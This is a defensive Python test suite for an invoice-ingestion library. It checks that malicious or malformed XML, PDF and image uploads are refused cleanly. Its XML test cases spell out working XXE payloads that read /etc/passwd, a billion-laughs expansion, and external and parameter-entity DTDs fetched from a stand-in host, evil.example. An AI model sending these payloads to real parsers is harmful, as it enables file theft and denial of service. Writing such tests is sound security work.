"""Hostile and broken input: every case ends in IngestError with a clear message.

Never another exception, never a file read, never a network call, never a memory blow-up.
"""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from billbridge.ingest import ERROR_MESSAGES, ExtractedBill, IngestError, extract
from billbridge.ingest.fields import extract_fields
from tests.ingest.corpus import bill_pdf, oioubl, peppol

FUZZ = settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
PEPPOL = peppol()


def refused(data: bytes, filename: str = "x.xml") -> IngestError:
    with pytest.raises(IngestError) as err:
        extract(data, filename)
    assert err.value.code in ERROR_MESSAGES
    assert str(err.value)
    return err.value


def test_xxe_with_external_entity_is_refused():
    xml = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&xxe;</Invoice>"""
    err = refused(xml)
    assert err.code == "xml_forbidden_dtd"
    assert "root:" not in str(err)


def test_billion_laughs_is_refused():
    entities = "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    )
    xml = f"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol0 "lol">{entities}]>
<lolz>&lol9;</lolz>""".encode()
    assert refused(xml).code == "xml_forbidden_dtd"


def test_external_dtd_is_refused():
    xml = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice SYSTEM "http://evil.example/invoice.dtd">
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>"""
    assert refused(xml).code == "xml_forbidden_dtd"


def test_doctype_hidden_in_utf16_is_refused():
    xml = (
        '<?xml version="1.0" encoding="UTF-16"?>'
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    ).encode("utf-16")
    assert refused(xml).code == "xml_forbidden_dtd"


def test_parameter_entity_is_refused():
    xml = b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><x/>'
    assert refused(xml).code == "xml_forbidden_dtd"


def test_wrong_namespace_is_not_an_invoice():
    xml = PEPPOL.replace(b"xsd:Invoice-2", b"xsd:Order-2")
    assert refused(xml).code == "xml_not_invoice"


def test_other_xml_is_not_an_invoice():
    assert refused(b"<html><body>hi</body></html>").code == "xml_not_invoice"


def test_huge_amount_is_refused():
    xml = PEPPOL.replace(
        b">2500.00</cbc:PayableAmount>", b">9" + b"9" * 400 + b"</cbc:PayableAmount>"
    )
    xml = xml.replace(
        b">2500.00</cbc:TaxInclusiveAmount>", b">1e999999999</cbc:TaxInclusiveAmount>"
    )
    assert refused(xml).code == "xml_invalid_value"


def test_garbage_date_is_refused():
    xml = PEPPOL.replace(b"<cbc:IssueDate>2026-11-22", b"<cbc:IssueDate>2026-13-45")
    assert refused(xml).code == "xml_invalid_value"


def test_missing_invoice_number_is_incomplete():
    xml = PEPPOL.replace(b"<cbc:ID>2026-1042</cbc:ID>", b"")
    assert refused(xml).code == "xml_incomplete"


def test_missing_monetary_total_is_incomplete():
    start = PEPPOL.index(b"<cac:LegalMonetaryTotal>")
    end = PEPPOL.index(b"</cac:LegalMonetaryTotal>") + len(b"</cac:LegalMonetaryTotal>")
    assert refused(PEPPOL[:start] + PEPPOL[end:]).code == "xml_incomplete"


def test_deeply_nested_xml_is_refused():
    xml = b"<a>" * 100_000 + b"</a>" * 100_000
    assert refused(xml).code == "xml_malformed"


def test_png_header_with_garbage_body_is_unreadable():
    assert refused(b"\x89PNG\r\n\x1a\n" + b"\x00" * 100, "x.png").code == "image_unreadable"


def test_image_with_absurd_dimensions_is_refused():
    import io

    from PIL import Image

    out = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(out, format="PNG")
    assert refused(out.getvalue(), "x.png").code == "image_unreadable"


@FUZZ
@given(st.binary(max_size=2000))
def test_random_bytes_give_ingest_error(data):
    refused(data, "upload")


@FUZZ
@given(st.binary(max_size=2000))
def test_random_bytes_after_pdf_magic_give_ingest_error(data):
    refused(b"%PDF-1.4\n" + data, "x.pdf")


@FUZZ
@given(st.integers(min_value=0, max_value=len(PEPPOL) - 20))
def test_truncated_xml_gives_xml_malformed(cut):
    assert refused(PEPPOL[:cut]).code in {"xml_malformed", "empty_document"}


@settings(max_examples=30, deadline=None)
@given(st.integers(min_value=0, max_value=len(PEPPOL) - 1), st.binary(min_size=1, max_size=8))
def test_corrupted_xml_is_read_or_refused_cleanly(position, junk):
    data = PEPPOL[:position] + junk + PEPPOL[position + len(junk) :]
    try:
        assert isinstance(extract(data, "x.xml"), ExtractedBill)
    except IngestError as err:
        assert err.code in ERROR_MESSAGES


@settings(max_examples=40, deadline=None)
@given(st.text(max_size=40))
def test_any_amount_text_is_read_or_refused_cleanly(value):
    from xml.sax.saxutils import escape

    data = oioubl().replace(
        b">2500.00</cbc:PayableAmount>", f">{escape(value)}</cbc:PayableAmount>".encode()
    )
    try:
        extract(data, "x.xml")
    except IngestError as err:
        assert err.code in {"xml_invalid_value", "xml_malformed"}


@settings(max_examples=40, deadline=None)
@given(st.text(max_size=30))
def test_any_date_text_is_read_or_refused_cleanly(value):
    from xml.sax.saxutils import escape

    data = PEPPOL.replace(b"2026-12-06</cbc:DueDate>", f"{escape(value)}</cbc:DueDate>".encode())
    try:
        extract(data, "x.xml")
    except IngestError as err:
        assert err.code in {"xml_invalid_value", "xml_malformed"}


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=3000))
def test_field_extraction_never_fails_on_any_text(text):
    assert isinstance(extract_fields(text), ExtractedBill)


def test_truncated_pdf_gives_ingest_error():
    pdf = bill_pdf()
    for cut in (10, len(pdf) // 3, len(pdf) // 2):
        refused(pdf[:cut], "x.pdf")
